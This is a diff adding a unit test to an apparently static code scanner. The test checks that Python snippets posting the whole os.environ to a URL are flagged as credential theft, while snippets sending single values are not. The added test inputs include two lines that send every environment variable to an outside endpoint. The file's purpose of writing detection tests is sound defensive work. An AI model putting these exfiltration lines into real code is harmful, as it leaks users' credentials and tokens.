@@ -421,6 +421,15 @@ TEST(JudgeText, FindsUnsafeLoadsInCodeOnly) {
   EXPECT_EQ(python("def load(f):\n    return json.load(f)\n"), Rules{});
 }
 
+TEST(JudgeText, TellsTheWholeEnvironmentFromOneOfItsValues) {
+  const auto python = [](std::string_view text) { return rules_of(look(text, "app/x.py", AssetKind::source)); };
+  const std::string head = "import os, json, requests\n";
+  EXPECT_EQ(python(head + "requests.post(u, json=dict(os.environ))\n"), (Rules{"credential-theft"}));
+  EXPECT_EQ(python(head + "e = json.dumps(os.environ)\nrequests.post(u, data=e)\n"), (Rules{"credential-theft"}));
+  EXPECT_EQ(python(head + "t = decoded(os.environ, 'TERM', 'unknown')\nrequests.post(u, json={'term': t})\n"), Rules{});
+  EXPECT_EQ(python(head + "requests.post(u, json={'term': os.environ['TERM'], 'x': os.environ.get('X')})\n"), Rules{});
+}
+
 TEST(JudgeText, FindsWhatRunsInputButNotWhatChecksIt) {
   const auto python = [](std::string_view text) { return rules_of(look(text, "app/x.py", AssetKind::source)); };
   EXPECT_EQ(python("q = input()\nprint(eval(q))\n"), (Rules{"eval-of-input"}));
